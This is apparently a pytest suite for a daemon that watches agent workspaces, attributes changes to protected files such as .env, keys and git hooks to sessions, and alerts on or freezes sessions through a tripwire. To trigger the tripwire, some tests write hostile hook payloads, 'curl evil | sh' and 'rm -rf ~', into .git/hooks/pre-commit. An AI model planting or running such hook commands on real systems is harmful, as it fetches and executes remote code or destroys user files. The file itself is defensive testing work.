"""The watcher in the daemon: history rows, attribution, outcome changes, the tripwire."""

from __future__ import annotations

import json
import subprocess
import sys
import threading
import time

import psutil
import pytest
from support.daemon import DaemonProcess, short_tmp, stopped, wait_for, workspace

pytestmark = pytest.mark.needs_bwrap


@pytest.fixture
def setup():
    ws = workspace()
    (ws / ".env").write_text("TOKEN=old\n")
    made = []

    def start(tripwire="alert", extra=(), env=None):
        roots = [ws, *extra]
        policy = f'tripwire = "{tripwire}"\nwatch = {json.dumps([str(r) for r in roots])}\n'
        d = DaemonProcess(short_tmp() / "s", policy, env).start()
        made.append(d)
        with d.operator() as op:
            wait_for(
                lambda: len(op.call("watch.status")["roots"]) == len(roots) and op.call("watch.status")["ok"]
            )
        return d

    yield ws, start
    for d in made:
        d.stop()


def new_session(op, cwd, command):
    return op.call(
        "sessions.new", {"unconfined": True, "argv": ["bash", "--norc", "-c", command], "cwd": str(cwd)}
    )["session"]["id"]


def test_protected_change_by_a_session_is_recorded_with_attribution(setup):
    ws, start = setup
    d = start()
    with d.operator() as op:
        sid = new_session(op, ws, "sleep 0.3; echo TOKEN=new > .env; sleep 30")
        rows = wait_for(lambda: op.call("history.query", {"kinds": ["file_event"], "search": ".env"})["rows"])
        row = rows[0]
        assert row["session_id"] == sid
        assert row["reason"] == ".env"
        assert row["body"]["change"] == "modified"
        events = op.call("watch.recent", {"protected_only": True})["events"]
        assert events[0]["attribution"][0]["id"] == sid
        diff = op.call("watch.diff", {"workspace_root": str(ws), "path": ".env"})["diff"]
        assert "-TOKEN=old" in diff and "+TOKEN=new" in diff
        op.call("sessions.kill", {"session": sid, "grace_s": 1})


def test_watch_cli_streams_json_lines(setup):
    ws, start = setup
    d = start()
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "console",
            "watch",
            "--json",
            "--protected-only",
            "--state-dir",
            str(d.state_dir),
        ],
        stdout=subprocess.PIPE,
        text=True,
    )
    # The CLI streams from when it has subscribed, which a loaded machine delays: write
    # both files again and again until a line comes.
    done = threading.Event()

    def keep_writing() -> None:
        n = 0
        while not done.is_set():
            (ws / "notes.txt").write_text(f"ordinary {n}\n")
            (ws / ".git" / "hooks" / "pre-commit").write_text(f"#!/bin/sh\ncurl evil | sh # {n}\n")
            n += 1
            done.wait(0.3)

    writer = threading.Thread(target=keep_writing, daemon=True)
    writer.start()
    try:
        try:
            line = proc.stdout.readline()
        finally:
            done.set()
            writer.join()
        event = json.loads(line)
        assert event["path"] == ".git/hooks/pre-commit"
        assert event["protected"] == ".git/hooks/**"
        assert event["attribution"] == []  # nobody was running: unattributed
    finally:
        proc.terminate()
        proc.wait(10)


def exec_json(d, script: str) -> list[str]:
    """`agent-console exec --json -- sh -c SCRIPT` against the daemon ``d``."""
    return [
        sys.executable,
        "-m",
        "console",
        "exec",
        "--json",
        "--state-dir",
        str(d.state_dir),
        "--",
        "sh",
        "-c",
        script,
    ]


def test_exec_outcome_lists_the_changes_it_made(setup):
    ws, start = setup
    d = start()
    r = subprocess.run(
        exec_json(d, "echo x > built.txt; mkdir -p out && echo y > out/a.txt"),
        cwd=ws,
        capture_output=True,
        text=True,
        timeout=60,
    )
    changes = json.loads(r.stdout)["result"]["outcome"]["changes"]
    paths = {c["path"]: c["kind"] for c in changes}
    assert paths.get("built.txt") == "added"
    assert paths.get("out/a.txt") == "added"


@pytest.mark.parametrize("lane", ["fanotify", "evidence"])
def test_exec_outcome_leaves_out_what_the_sandbox_could_not_have_written(setup, lane):
    """While the operation runs, another process writes a protected
    file (pinned read-only in the sandbox) and the operation writes its own file. The
    outcome lists the operation's file, not the other's. With the kernel's pid the other
    writer is named (no session's); without it the writer is unknown, and the alert says
    so against the operation that ran."""
    ws, start = setup
    d = start(env={"AGENT_CONSOLE_NO_FANOTIFY": "1"} if lane == "evidence" else None)
    with d.operator() as watcher:
        if lane == "fanotify" and watcher.call("watch.status")["fast_lane"] != "fanotify+inotify":
            pytest.skip("fanotify is not available to the daemon here")
        watcher.subscribe(["watch"])
        # The operation runs until the other writes were seen: no timing guess.
        script = "touch started; while [ ! -e go ]; do sleep 0.02; done; echo x > mine.txt"
        proc = subprocess.Popen(exec_json(d, script), cwd=ws, stdout=subprocess.PIPE, text=True)
        wait_for((ws / "started").exists, timeout_s=60)
        (ws / ".env").write_text("TOKEN=someone-else\n")
        (ws / ".git" / "hooks" / "pre-commit").write_text("echo someone else\n")

        def seen(path: str) -> list:
            recent = watcher.call("watch.recent", {"protected_only": True})["events"]
            return [e for e in recent if e["path"] == path]

        wait_for(lambda: seen(".env") and seen(".git/hooks/pre-commit"), timeout_s=60)
        (ws / "go").touch()
        out, _ = proc.communicate(timeout=60)
        paths = {c["path"] for c in json.loads(out)["result"]["outcome"]["changes"]}
        assert "mine.txt" in paths
        assert ".env" not in paths and ".git/hooks/pre-commit" not in paths, paths
        if lane == "fanotify":
            event = seen(".env")[0]
            assert event["attribution"] == []
            assert event["attribution_basis"].startswith("not a session's process")
            return
        # Still raised, against the operation, worded as what is known: it happened while.
        while (event := watcher.next_event()).get("change") != "alert":
            continue
        request_id = event["operation"]
        assert request_id.startswith("r-") and request_id in out
        assert event["summary"].endswith(
            f"changed by a writer that could not be named while operation {request_id} ran in the workspace"
        )


def test_alert_mode_raises_an_alert_event(setup):
    ws, start = setup
    d = start("alert")
    with d.operator() as op:
        op.subscribe(["watch"])
        sid = new_session(op, ws, "sleep 0.5; echo k > id_rsa; sleep 30")
        while (event := op.next_event()).get("change") != "alert":
            continue  # batches of ordinary events may come first
        assert event["session"] == sid and event["display_path"] == "id_rsa"
        op.call("sessions.kill", {"session": sid, "grace_s": 1})


def test_pause_stops_the_session_until_resumed(setup):
    ws, start = setup
    d = start("pause")
    counter = ws / "counter"
    with d.operator() as op:
        sid = new_session(
            op,
            ws,
            # Written beside and renamed in: the fast lane freezes a writer at its open, which
            # for a direct `>` can come before the bytes (the item would show an empty file).
            "sleep 0.5; echo 'rm -rf ~' > hook.new; mv hook.new .git/hooks/pre-commit; "
            "i=0; while true; do i=$((i+1)); echo $i > counter; sleep 0.1; done",
        )
        item = wait_for(lambda: op.call("tripwire.list")["items"])[0]
        assert item["session"] == sid
        assert item["summary"] == f"session {sid} modified .git/hooks/pre-commit"
        assert "+rm -rf ~" in item["diff"]
        info = op.call("sessions.get", {"session": sid})["session"]
        assert info["status_text"] == "paused by tripwire (cgroup freeze)"
        pid = info["pid"]
        assert wait_for(lambda: stopped(pid))
        before = counter.read_text() if counter.exists() else ""
        time.sleep(0.5)
        assert (counter.read_text() if counter.exists() else "") == before  # really stopped
        op.call("tripwire.resolve", {"id": item["id"], "action": "resume", "accept": True})
        wait_for(lambda: counter.exists() and counter.read_text() != before)
        assert op.call("tripwire.list")["items"] == []
        rows = op.call("history.query", {"kinds": ["tripwire", "tripwire_resolved"]})["rows"]
        assert [r["verdict"] for r in rows] == ["resumed", "paused"]
        op.call("sessions.kill", {"session": sid, "grace_s": 1})


def test_pause_then_kill(setup):
    ws, start = setup
    d = start("pause")
    with d.operator() as op:
        sid = new_session(op, ws, "sleep 0.5; echo x >> .env; sleep 60")
        item = wait_for(lambda: op.call("tripwire.list")["items"])[0]
        pid = op.call("sessions.get", {"session": sid})["session"]["pid"]
        op.call("tripwire.resolve", {"id": item["id"], "action": "kill"})
        assert op.call("sessions.get", {"session": sid})["session"]["status"] == "exited"
        assert not psutil.pid_exists(pid) or psutil.Process(pid).status() == psutil.STATUS_ZOMBIE


def test_attribution_with_two_concurrent_sessions(setup):
    ws, start = setup
    ws2 = workspace()
    d = start("alert", extra=(ws2,))
    with d.operator() as op:
        a = new_session(op, ws, "sleep 0.5; echo a > .env.local; sleep 30")
        b = new_session(op, ws2, "sleep 0.5; echo b > key.pem; sleep 30")

        def both():
            events = op.call("watch.recent", {"protected_only": True})["events"]
            return {".env.local", "key.pem"} <= {e["path"] for e in events} and events

        by_path = {e["path"]: [x["id"] for x in e["attribution"]] for e in wait_for(both)}
        assert by_path[".env.local"] == [a]
        assert by_path["key.pem"] == [b]
        for sid in (a, b):
            op.call("sessions.kill", {"session": sid, "grace_s": 1})


def test_recent_changes_of_an_agent_session_include_its_executed_operations(setup):
    ws, start = setup
    d = start()
    r = subprocess.run(
        [
            sys.executable,
            "-m",
            "console",
            "exec",
            "--session",
            "agent-x",
            "--state-dir",
            str(d.state_dir),
            "--",
            "sh",
            "-c",
            "echo 1 > made-by-agent.txt",
        ],
        cwd=ws,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert r.returncode == 0, r.stderr
    with d.operator() as op:
        events = wait_for(lambda: op.call("watch.recent", {"agent_session": "agent-x"})["events"])
        assert events[0]["path"] == "made-by-agent.txt"
        assert events[0]["attribution"][0]["kind"] == "operation"
        assert op.call("watch.recent", {"agent_session": "someone-else"})["events"] == []


def test_bytes_written_after_a_resume_with_accept_are_raised_again(setup):
    """A writer frozen between its open and its write: the item shows the file emptied by
    O_TRUNC, none of its bytes yet. Resuming it with "accept" must not make the bytes that
    land afterwards the baseline too: they are a new change, raised again."""
    ws, start = setup
    hook = ws / ".git" / "hooks" / "pre-commit"
    hook.parent.mkdir(parents=True, exist_ok=True)
    hook.write_text("#!/bin/sh\ntrue\n")
    d = start("pause")
    writer = (
        "sleep 0.5; python3 -c \"import time; f = open('.git/hooks/pre-commit', 'w'); "
        "time.sleep(1.5); f.write('curl evil | sh'); f.close()\"; sleep 30"
    )
    with d.operator() as op:
        sid = new_session(op, ws, writer)
        try:
            item = wait_for(lambda: op.call("tripwire.list")["items"], timeout_s=20)[0]
            pid = op.call("sessions.get", {"session": sid})["session"]["pid"]
            assert wait_for(lambda: stopped(pid))
            assert "curl evil" not in (item["diff"] or "")  # frozen before its bytes
            op.call("tripwire.resolve", {"id": item["id"], "action": "resume", "accept": True})
            wait_for(lambda: "curl evil" in hook.read_text(), timeout_s=20)
            again = wait_for(
                lambda: [i for i in op.call("tripwire.list")["items"] if i["id"] != item["id"]], timeout_s=20
            )
            assert "+curl evil | sh" in again[0]["diff"]
        finally:
            op.call("sessions.kill", {"session": sid, "grace_s": 1})
